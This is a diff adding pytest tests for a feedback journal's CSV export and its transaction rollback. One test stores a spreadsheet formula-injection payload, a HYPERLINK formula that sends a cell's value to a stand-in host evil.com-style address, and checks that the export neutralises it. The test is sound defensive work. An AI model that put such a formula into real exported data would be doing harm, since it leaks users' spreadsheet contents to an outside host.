@@ -147,6 +147,31 @@ def test_export_writes_csv_with_a_header(capsys, project, tmp_path, what, header
     assert f"wrote {n} row(s)" in capsys.readouterr().out
 
 
+def test_export_escapes_what_a_spreadsheet_would_run(project, tmp_path):
+    j = Journal(project.root / "feedback.sqlite3")
+    j.record('=HYPERLINK("http://evil.example/"&A1,"click")', "not_covered", user_id=3)
+    j.record("-2+3", "not_covered", user_id=3)
+    out = tmp_path / "q.csv"
+    assert j.export("questions", out) == 7
+    with out.open(newline="", encoding="utf-8") as fh:
+        questions = [row[4] for row in csv.reader(fh)][1:]
+    assert "'=HYPERLINK(\"http://evil.example/\"&A1,\"click\")" in questions and "'-2+3" in questions
+    assert not [q for q in questions if q[:1] in "=+-@"]
+
+
+def test_a_failing_transaction_never_swallows_another_write(tmp_path):
+    """forget() fails half-way (a trigger aborts it): it is rolled back under the lock, and the
+    next record lands."""
+    j = filled(tmp_path)
+    with sqlite3.connect(j.path) as conn:
+        conn.execute("CREATE TRIGGER no_delete BEFORE DELETE ON questions BEGIN SELECT RAISE(ABORT, 'no'); END")
+    assert j.forget(10) is None
+    qid = j.record("after the failure", "answer", user_id=99)
+    with sqlite3.connect(j.path) as conn:
+        assert conn.execute("SELECT count(*) FROM questions WHERE id = ?", (qid,)).fetchone()[0] == 1
+        assert conn.execute("SELECT count(*) FROM ratings").fetchone()[0] == 1  # forget's first delete undone
+
+
 def test_stats_without_a_journal_is_one_line(capsys, make_project):
     p = make_project()
     assert main(["stats", "--config", str(p.config_path)]) == 2
